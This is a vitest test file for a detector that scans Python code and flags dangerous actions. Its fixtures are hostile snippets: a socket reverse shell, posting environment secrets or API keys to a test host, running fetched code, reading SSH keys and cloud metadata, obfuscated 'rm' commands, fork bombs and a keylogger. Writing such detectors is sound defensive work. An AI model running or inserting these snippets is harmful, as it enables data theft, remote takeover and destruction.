import { describe, expect, it } from 'vitest';
import { linesOf } from './code-of.ts';

const python = (text: string): readonly string[] => linesOf('python', text);

describe('python: names', () => {
  it.each([
    ['an alias of a module', 'import os as o\no.remove("/a")'],
    ['an alias of a function', 'from os import remove as r\nr("/a")'],
    ['a star import', 'from os import *\nremove("/a")'],
    ['__import__', '__import__("os").remove("/a")'],
    ['importlib', 'import importlib\nimportlib.import_module("o" + "s").remove("/a")'],
    ['getattr with a folded name', 'import os\ngetattr(os, "re" + "move")("/a")'],
    ['the dictionary of a module', 'import os\nvars(os)["remove"]("/a")'],
    ['sys.modules', 'import sys\nsys.modules["os"].remove("/a")'],
    ['a variable that holds the function', 'import os\nf = os.remove\nf("/a")'],
    ['a function given to another', '(lambda f: f("/a"))(__import__("os").remove)'],
    ['a function handed on', 'import os\nlist(map(os.remove, ["/a"]))'],
    ['no import at all', 'os.remove("/a")'],
  ])('sees through %s', (_, text) => {
    expect(python(text)).toContain('delete /a');
  });

  it.each([
    ['the second of two lists', 'import os\nx = ["/b"]\nif c: x = ["/a"]\nfor p in x: os.remove(p)'],
    ['one of two functions', 'import os\nf = print\nif c: f = os.remove\nf("/a")'],
    ['a function of a list', 'import os\nfor f in [print, os.remove]: f("/a")'],
    ['one of two modules', 'import os\nm = items\nif c: m = os\nm.remove("/a")'],
    ['a field of the second of two', 'import os\nd = {"a": print}\nif c: d = {"a": os.remove}\nd["a"]("/a")'],
    ['a longer list of two', 'import os\nx = ["/b"] if c else ["/b", "/a"]\nfor p in x: os.remove(p)'],
    [
      'one of many results',
      `import os\ndef f(i):\n${'  if i: return "/b"\n'.repeat(19)}  return "/a"\nos.remove(f(1))`,
    ],
  ])('sees %s', (_, text) => {
    expect(python(text)).toContain('delete /a');
  });

  it('does not know the last of too many results', () => {
    const many = `import os\ndef f(i):\n${'  if i: return "/b"\n'.repeat(20)}  return "/a"\nos.remove(f(1))`;
    expect(python(many).join()).toMatch(/delete .*(?:\?|\uFFFC)/);
  });

  it('does not take a method of a list for a function of the system', () => {
    expect(python('items = [1]\nitems.remove(1)\ndef remove(x): pass\nremove("/a")')).toEqual([]);
  });
});

describe('python: texts', () => {
  const parts = [
    '"r" + "m /a"',
    '"".join(["r", "m /a"])',
    '"".join(chr(c) for c in [114, 109, 32, 47, 97])',
    '"a/ mr"[::-1]',
    'bytes.fromhex("726d202f61").decode()',
    '__import__("base64").b64decode("cm0gL2E=").decode()',
    '"{} {}".format("rm", "/a")',
    '"%s /a" % "rm"',
    'f"{\'rm\'} /a"',
    '"\\x72m /a"',
    '"em /n".replace("e", "r").replace("n", "a")',
    '__import__("codecs").decode("ez /n", "rot13")',
  ];
  it.each(parts)('folds %s', (expression) => {
    expect(python(`import os\nos.system(${expression})`)).toContain('shell rm /a');
  });

  it('follows a name, a parameter and a result', () => {
    expect(
      python('import os\ndef run(c):\n  os.system(c)\ndef make():\n  return "rm /a"\nx = make()\nrun(x)'),
    ).toEqual(['shell rm /a']);
  });

  it('asks where a command is not known', () => {
    expect(python('import os, sys\nos.system(sys.argv[1])')).toContain('opaque command');
  });

  it('quotes words of a list for the shell', () => {
    expect(python('import subprocess\nsubprocess.run(["rm", "a b", "it\'s"])')).toEqual([
      `shell rm 'a b' 'it'\\''s'`,
    ]);
  });
});

describe('python: files', () => {
  it.each([
    ['import shutil\nshutil.rmtree("/a")', 'delete all /a'],
    ['from pathlib import Path\n(Path.home() / "x").unlink()', 'delete ~/x'],
    ['import os\nfor f in os.listdir("/a"):\n  os.remove(os.path.join("/a", f))', 'delete /a/* (many)'],
    ['import glob, os\nfor f in glob.glob("*.log"): os.remove(f)', 'delete /project/*.log (many)'],
    ['import os\nos.chdir("/etc")\nos.remove("hosts")', 'delete /etc/hosts'],
    ['open("/etc/hosts", "a").write("x")', 'append /etc/hosts'],
    ['with open("/a", mode="w") as f: pass', 'overwrite /a'],
    ['from pathlib import Path\nPath("/a").write_text("x")', 'overwrite /a'],
    ['import os\nos.chmod("/a", 0o777)', 'weaken /a'],
    ['import os\nos.chmod("/a", 0o644)', 'mode /a'],
    ['import os\nos.rename("/a", "/b")', 'move /a /b'],
    ['print(open("/home/user/.ssh/id").read())', 'read /home/user/.ssh/id'],
  ])('%s', (text, line) => {
    expect(python(text)).toContain(line);
  });

  it('says nothing of writing where nothing is known of the path', () => {
    expect(python('def save(path):\n  with open(path, "w") as f: f.write("x")')).toEqual([]);
  });
});

describe('python: network', () => {
  it.each([
    ['import requests\nrequests.get("https://a.test/x")', 'fetch a.test'],
    ['import requests\nrequests.post("https://a.test", data=open("/b").read())', 'send file a.test'],
    ['import requests, os\nrequests.post("https://a.test", json=dict(os.environ))', 'send secret a.test'],
    ['import requests, os\nrequests.get("https://a.test/?k=" + os.environ["API_KEY"])', 'send secret a.test'],
    ['import requests\nexec(requests.get("https://a.test").text)', 'run fetched'],
    [
      'import socket,os,pty\ns=socket.socket()\ns.connect(("1.2.3.4",1))\nos.dup2(s.fileno(),0)\npty.spawn("sh")',
      'reverseShell',
    ],
    ['import requests\nrequests.get("http://169.254.169.254/latest")', 'credential read'],
  ])('%s', (text, line) => {
    expect(python(text)).toContain(line);
  });

  it('takes a token in a header for a login', () => {
    const lines = python(
      'import requests, os\nrequests.get("https://a.test", headers={"Authorization": os.environ["TOKEN"]})',
    );
    expect(lines).toEqual(['fetch a.test']);
  });
});

describe('python: harm of other kinds', () => {
  it.each([
    ['import os\nwhile True: os.fork()', 'resource destroy'],
    ['import threading\ndef t():\n  while True: threading.Thread(target=t).start()', 'resource destroy'],
    ['open("a.sh", "w").write("rm -rf /")', 'shell rm -rf /'],
    ['x = []\nwhile True: x.append("a" * 1000)', 'resource destroy'],
    ['x = "a" * 10 ** 10', 'resource destroy'],
    ['import os\nos.kill(1234, 9)', 'process destroy'],
    ['from pynput import keyboard\nkeyboard.Listener(on_press=print)', 'credential read'],
    ['import os\nprint(os.environ)', 'credential read'],
    ['eval(input())', 'opaque code'],
    ['import pickle\npickle.loads(data)', 'run opaque'],
    ['import sqlite3\nsqlite3.connect("a.db").execute("DROP TABLE t")', 'database destroy'],
    ['import requests\nrequests.get("https://a.test", verify=False)', 'defense change'],
    ['().__class__.__bases__[0].__subclasses__()', 'opaque code'],
  ])('%s', (text, line) => {
    expect(python(text)).toContain(line);
  });

  it.each([
    'import time\nwhile True:\n  time.sleep(1)\n  print(1)',
    'import os\nos.kill(os.getpid(), 9)',
    'import sqlite3\nsqlite3.connect(":memory:").execute("CREATE TABLE t (a)")',
    'import json\nprint(json.dumps({"a": [1, 2]}))',
    'import logging\nlogging.info("done %s", 3)',
  ])('leaves alone %s', (text) => {
    expect(python(text)).toEqual([]);
  });
});
